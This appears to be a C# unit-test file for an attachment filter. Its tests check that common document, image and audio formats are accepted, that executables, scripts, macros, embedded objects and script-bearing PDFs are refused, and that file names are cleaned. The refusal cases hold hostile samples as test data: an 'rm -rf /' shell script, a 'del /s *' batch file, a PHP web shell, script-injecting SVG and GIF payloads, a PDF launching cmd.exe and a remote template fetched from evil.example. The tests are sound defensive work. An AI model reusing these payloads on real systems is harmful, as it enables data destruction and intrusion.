@@ -1,0 +1,339 @@
+using System.Buffers.Binary;
+using System.IO.Compression;
+using System.Text;
+using Wardwise.App.Records;
+
+namespace Wardwise.App.Tests.Records;
+
+/// <summary>What people really attach goes in; programs, macros and what cannot be checked never do, whatever they are called.</summary>
+public sealed class FilesTakenTests
+{
+    private static readonly byte[] Program = [0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0, .. new byte[120]];
+
+    public static TheoryData<string, string, byte[]> Taken =>
+        new()
+        {
+            { "letter.txt", "text/plain", "Dear all,\r\nthe gap is shut.\r\n"u8.ToArray() },
+            { "ansi.txt", "text/plain", [.. "It cost "u8, 0xA3, .. "40 at the caf"u8, 0xE9, .. "\r\n"u8] },
+            { "utf16.txt", "text/plain", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Notes of the meeting")] },
+            { "table.csv", "text/csv", "month,count\n2026-01,4\n"u8.ToArray() },
+            { "photo.heic", "image/heic", Boxed("heic") },
+            { "photo.HEIC", "image/heif", Boxed("mif1") },
+            { "photo.avif", "image/avif", Boxed("avif") },
+            { "film.mov", "video/quicktime", Boxed("qt  ") },
+            { "film.mp4", "video/mp4", Boxed("isom") },
+            { "sound.m4a", "audio/mp4", Boxed("M4A ") },
+            { "film.3gp", "video/3gpp", Boxed("3gp5") },
+            { "sound.wav", "audio/wav", [.. "RIFF"u8, 0, 0, 0, 0, .. "WAVEfmt "u8] },
+            { "photo.webp", "image/webp", [.. "RIFF"u8, 0, 0, 0, 0, .. "WEBPVP8 "u8] },
+            { "sound.mp3", "audio/mpeg", [.. "ID3"u8, 3, 0, 0, 0, 0, 0, 0] },
+            { "sound.ogg", "audio/ogg", [.. "OggS"u8, 0, 2, 0, 0] },
+            { "sound.amr", "audio/amr", [.. "#!AMR\n"u8, 0x3C, 0] },
+            { "photo.jpg", "image/jpeg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8] },
+            { "plan.rtf", "application/rtf", "{\\rtf1\\ansi The plan}"u8.ToArray() },
+            {
+                "mail.eml",
+                "message/rfc822",
+                "From: a@b.example\r\nTo: c@d.example\r\nSubject: Bikes\r\n\r\nThey came again.\r\n"u8.ToArray()
+            },
+            {
+                "plan.docx",
+                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+                Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>"))
+            },
+            {
+                "list.xlsx",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+                Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<w/>"))
+            },
+            {
+                "talk.pptx",
+                "application/vnd.openxmlformats-officedocument.presentationml.presentation",
+                Zip(("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>"))
+            },
+            {
+                "plan.odt",
+                "application/vnd.oasis.opendocument.text",
+                Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<o/>"))
+            },
+            {
+                "list.ods",
+                "application/vnd.oasis.opendocument.spreadsheet",
+                Zip(("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", "<o/>"))
+            },
+            { "plan.pdf", "application/pdf", "%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\n%%EOF"u8.ToArray() },
+            { "old.doc", "application/msword", Compound(("WordDocument", [1, 2, 3])) },
+            { "old.xls", "application/vnd.ms-excel", Compound(("Workbook", Sheet(0))) },
+            { "old.ppt", "application/vnd.ms-powerpoint", Compound(("PowerPoint Document", [0x0F, 0, 0xE8, 3, 0, 0, 0, 0])) },
+            {
+                "mail.msg",
+                "application/vnd.ms-outlook",
+                Compound(("__properties_version1.0", [0]), ("__substg1.0_37010102", "Notes"u8.ToArray()))
+            },
+        };
+
+    public static TheoryData<string, string, byte[]> NotTaken =>
+        new()
+        {
+            { "bad.pdf", "program", Program },
+            { "bad.txt", "program", Program },
+            { "bad.jpg", "program", [0x7F, .. "ELF"u8, 2, 1, 1] },
+            { "bad", "program", [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1] },
+            { "notes.txt", "program", "#!/bin/sh\nrm -rf /\n"u8.ToArray() },
+            { "notes.txt", "program", "@echo off\r\ndel /s *\r\n"u8.ToArray() },
+            { "notes.txt", "program", "Windows Registry Editor Version 5.00\r\n"u8.ToArray() },
+            { "notes.txt", "program", "<?php system($_GET[0]);"u8.ToArray() },
+            { "run.bat", "program", "echo hello"u8.ToArray() },
+            { "run.ps1", "program", "Get-Process"u8.ToArray() },
+            { "run.js", "program", "alert(1)"u8.ToArray() },
+            { "run.VBS", "program", "MsgBox 1"u8.ToArray() },
+            { "go.hta", "program", "hello"u8.ToArray() },
+            { "go.txt", "program", [0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0] },
+            { "go.zip", "program", Zip(("META-INF/MANIFEST.MF", "Main-Class: X")) },
+            { "go.zip", "program", Zip(("classes.dex", "dex")) },
+            { "disc.bin", "program", [.. new byte[0x8001], .. "CD001"u8, 1, 0] },
+            { "setup.msi", "program", Compound(("SummaryInformation", [1])) },
+            { "setup.doc", "program", Compound(("SummaryInformation", [1])) },
+            { "page.html", "Web pages", "<p>hello</p>"u8.ToArray() },
+            { "page.txt", "Web pages", "<!DOCTYPE html><script>alert(1)</script>"u8.ToArray() },
+            { "draw.svg", "Web pages", "<svg/>"u8.ToArray() },
+            { "draw.png", "Web pages", "<?xml version=\"1.0\"?><svg onload=\"alert(1)\"></svg>"u8.ToArray() },
+            { "photo.jpg", "two kinds", [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[40], .. Zip(("x.class", "x"))] },
+            { "photo.gif", "two kinds", [.. "GIF89a"u8, .. "<script>alert(1)</script>"u8] },
+            {
+                "macro.docx",
+                "macros",
+                Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>"), ("word/vbaProject.bin", "x"))
+            },
+            {
+                "macro.docx",
+                "macros",
+                Zip(("[Content_Types].xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), ("word/document.xml", "<w/>"))
+            },
+            { "macro.docm", "macros", "text"u8.ToArray() },
+            {
+                "macro.xlsx",
+                "macros",
+                Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<w/>"), ("xl/macrosheets/sheet1.xml", "<m/>"))
+            },
+            { "macro.xlsx", "macros", Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.bin", "b")) },
+            { "macro.odt", "macros", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("Basic/Standard/Module1.xml", "<x/>")) },
+            { "macro.odt", "macros", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("Scripts/python/x.py", "x")) },
+            { "macro.doc", "macros", Compound(("WordDocument", [1]), ("VBA", [1])) },
+            { "macro.doc", "macros", Compound(("WordDocument", [1]), ("_VBA_PROJECT", [1])) },
+            { "macro.xls", "macros", Compound(("Workbook", Sheet(1))) },
+            { "macro.ppt", "macros", Compound(("PowerPoint Document", [0x0F, 0, 0xE8, 3, 16, 0, 0, 0, 0x0F, 0, 0xFF, 3, 0, 0, 0, 0])) },
+            { "word.doc", "macros", "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:x/>"u8.ToArray() },
+            { "locked.docx", "locked", Compound(("EncryptedPackage", [1]), ("EncryptionInfo", [1])) },
+            { "locked.xls", "locked", Compound(("Workbook", [9, 8, 2, 0, 0, 6, 0x2F, 0, 2, 0, 1, 0])) },
+            {
+                "inside.docx",
+                "inside",
+                Zip(
+                    ("[Content_Types].xml", "<Types/>"),
+                    ("word/document.xml", "<w/>"),
+                    ("word/embeddings/oleObject1.bin", "MZ" + new string('\0', 40))
+                )
+            },
+            {
+                "fetch.docx",
+                "inside",
+                Zip(
+                    ("[Content_Types].xml", "<Types/>"),
+                    ("word/document.xml", "<w/>"),
+                    (
+                        "word/_rels/settings.xml.rels",
+                        "<Relationships><Relationship Type=\"x/attachedTemplate\" "
+                            + "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"
+                    )
+                )
+            },
+            { "objects.rtf", "inside", "{\\rtf1{\\object\\objemb{\\*\\objdata 01050000}}}"u8.ToArray() },
+            { "files.zip", "archive", Zip(("a.txt", "a")) },
+            { "files.rar", "archive", [.. "Rar!"u8, 0x1A, 7, 0] },
+            { "script.pdf", "This PDF", "%PDF-1.4\n1 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj"u8.ToArray() },
+            { "script.pdf", "This PDF", "%PDF-1.4\n1 0 obj\n<</S/J#61vaScript/JS(app.alert(1))>>\nendobj"u8.ToArray() },
+            { "launch.pdf", "This PDF", "%PDF-1.4\n1 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj"u8.ToArray() },
+            { "packed.pdf", "This PDF", PackedPdf("<</S/JavaScript/JS(app.alert(1))>>") },
+            {
+                "mail.eml",
+                "program",
+                [
+                    .. "From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n\r\n"u8,
+                    .. "Content-Disposition: attachment; filename=\"invoice.exe\"\r\n"u8,
+                ]
+            },
+            { "mail.msg", "program", Compound(("__properties_version1.0", [0]), ("__substg1.0_37010102", Program)) },
+            { "unknown.xyz", "not taken", [1, 2, 3, 4, 0, 0, 7] },
+            { "cut.docx", "damaged", Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>"))[..60] },
+        };
+
+    [Theory]
+    [MemberData(nameof(Taken))]
+    public void WhatPeopleAttach_GoesIn(string name, string type, byte[] content)
+    {
+        var of = MediaTypes.Of(content, name);
+        Assert.True(of.Done, of.Done ? "" : of.Refusals[0].Sentence);
+        Assert.Equal(type, of.Value);
+    }
+
+    [Theory]
+    [MemberData(nameof(NotTaken))]
+    public void WhatRunsHidesOrCannotBeChecked_IsRefused_WithWhatToDo(string name, string says, byte[] content)
+    {
+        var of = MediaTypes.Of(content, name);
+        Assert.False(of.Done, name);
+        Assert.Contains(says, of.Refusals[0].Sentence, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("text/html")]
+    [InlineData("image/svg+xml")]
+    [InlineData("image/heic")]
+    [InlineData("text/plain")]
+    public void OnlyPicturesAndPdfs_AreShown(string type) => Assert.False(MediaTypes.IsShownInline(type));
+
+    [Fact]
+    public void DamagedFiles_EndInASentence()
+    {
+        var dice = new Random(11);
+        foreach (var content in Taken.Concat(NotTaken).Select(row => (byte[])((object[])row)[2]).Where(c => c.Length < 40_000))
+        {
+            for (var i = 0; i < 30; i++)
+            {
+                var damaged = content.ToArray();
+                for (var j = 0; j < 1 + (i % 5); j++)
+                {
+                    damaged[dice.Next(damaged.Length)] = (byte)dice.Next(256);
+                }
+
+                var of = MediaTypes.Of(damaged[..dice.Next(1, damaged.Length + 1)], "file.doc");
+                Assert.True(of.Done || of.Refusals[0].Sentence.Length > 0);
+            }
+        }
+    }
+
+    [Theory]
+    [InlineData("photo\u202Egpj.exe", "photogpj.exe")]
+    [InlineData("..\\..\\etc\\passwd", "passwd")]
+    [InlineData("a\u0000b\tc\u200B.txt", "abc.txt")]
+    [InlineData("CON.txt", "file-CON.txt")]
+    [InlineData("nul", "file-nul")]
+    [InlineData("lpt1.pdf", "file-lpt1.pdf")]
+    [InlineData(" . ", "file")]
+    [InlineData("a<b>:c?.txt", "abc.txt")]
+    public void AName_LosesWhatDeceivesOrTrips(string given, string kept) => Assert.Equal(kept, AttachmentFolder.NameOf(given));
+
+    [Fact]
+    public void HalfACharacterInAName_IsNone() => Assert.Equal("half\uFFFD.txt", AttachmentFolder.NameOf("half\uD83D.txt"));
+
+    [Theory]
+    [InlineData("🚲", "a", 115, ".pdf")]
+    [InlineData("", "🚲", 100, ".jpeg")]
+    [InlineData("", "é", 300, "")]
+    [InlineData("", "字", 119, ".docx")]
+    public void ALongName_IsCutOnWholeCharacters_AndKeepsItsEnding(string first, string letter, int many, string end)
+    {
+        var kept = AttachmentFolder.NameOf(first + string.Concat(Enumerable.Repeat(letter, many)) + end);
+        Assert.True(kept.Length <= 120 && Encoding.UTF8.GetByteCount(kept) <= 240);
+        Assert.EndsWith(end, kept, StringComparison.Ordinal);
+        Assert.Equal(kept, Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(kept)));
+    }
+
+    private static byte[] Boxed(string brand) =>
+        [0, 0, 0, 24, .. "ftyp"u8, .. Encoding.ASCII.GetBytes(brand), 0, 0, 0, 0, .. Encoding.ASCII.GetBytes(brand), 0, 0, 0, 0];
+
+    private static byte[] Zip(params (string Name, string Text)[] parts)
+    {
+        using var to = new MemoryStream();
+        using (var zip = new ZipArchive(to, ZipArchiveMode.Create, leaveOpen: true))
+        {
+            foreach (var (name, text) in parts)
+            {
+                using var part = new StreamWriter(zip.CreateEntry(name).Open());
+                part.Write(text);
+            }
+        }
+
+        return to.ToArray();
+    }
+
+    /// <summary>The beginning of a workbook: its own sign, then a sheet of a sort (1 is a sheet of macros).</summary>
+    private static byte[] Sheet(byte sort) => [9, 8, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, 0, sort, 1, 0, .. "S"u8];
+
+    private static byte[] PackedPdf(string hidden)
+    {
+        using var packed = new MemoryStream();
+        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
+        {
+            zlib.Write(Encoding.ASCII.GetBytes("1 0 " + hidden));
+        }
+
+        return
+        [
+            .. "%PDF-1.5\n5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n"u8,
+            .. packed.ToArray(),
+            .. "\nendstream\nendobj"u8,
+        ];
+    }
+
+    /// <summary>A compound file with these streams: a sector of the table, one of the directory for each four entries, then the streams,
+    /// each made long enough to lie among the large.</summary>
+    private static byte[] Compound(params (string Name, byte[] Content)[] streams)
+    {
+        const int Sector = 512;
+        const int Large = 4096;
+        var directories = (streams.Length + 4) / 4;
+        var each = Large / Sector;
+        var file = new byte[Sector * (2 + directories + (streams.Length * each))];
+        new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.CopyTo(file, 0);
+        void Short(int at, int value) => BinaryPrimitives.WriteUInt16LittleEndian(file.AsSpan(at), (ushort)value);
+        void Long(int at, uint value) => BinaryPrimitives.WriteUInt32LittleEndian(file.AsSpan(at), value);
+        Short(26, 3);
+        Short(28, 0xFFFE);
+        Short(30, 9);
+        Short(32, 6);
+        Long(44, 1);
+        Long(48, 1);
+        Long(56, Large);
+        Long(60, 0xFFFFFFFE);
+        Long(68, 0xFFFFFFFE);
+        Long(76, 0);
+        for (var i = 1; i < 109; i++)
+        {
+            Long(76 + (i * 4), 0xFFFFFFFF);
+        }
+
+        int Place(int sector) => (sector + 1) * Sector;
+        void Next(int sector, uint next) => Long(Place(0) + (sector * 4), next);
+        Next(0, 0xFFFFFFFD);
+        for (var d = 0; d < directories; d++)
+        {
+            Next(1 + d, d == directories - 1 ? 0xFFFFFFFE : (uint)(2 + d));
+        }
+
+        void Entry(int number, string name, byte kind, uint start, int size)
+        {
+            var at = Place(1) + (number * 128);
+            Encoding.Unicode.GetBytes(name).CopyTo(file, at);
+            Short(at + 64, (name.Length + 1) * 2);
+            file[at + 66] = kind;
+            Long(at + 116, start);
+            Long(at + 120, (uint)size);
+        }
+
+        Entry(0, "Root Entry", 5, 0xFFFFFFFE, 0);
+        for (var s = 0; s < streams.Length; s++)
+        {
+            var start = 1 + directories + (s * each);
+            Entry(s + 1, streams[s].Name, 2, (uint)start, Large);
+            streams[s].Content.CopyTo(file, Place(start));
+            for (var i = 0; i < each; i++)
+            {
+                Next(start + i, i == each - 1 ? 0xFFFFFFFE : (uint)(start + i + 1));
+            }
+        }
+
+        return file;
+    }
+}
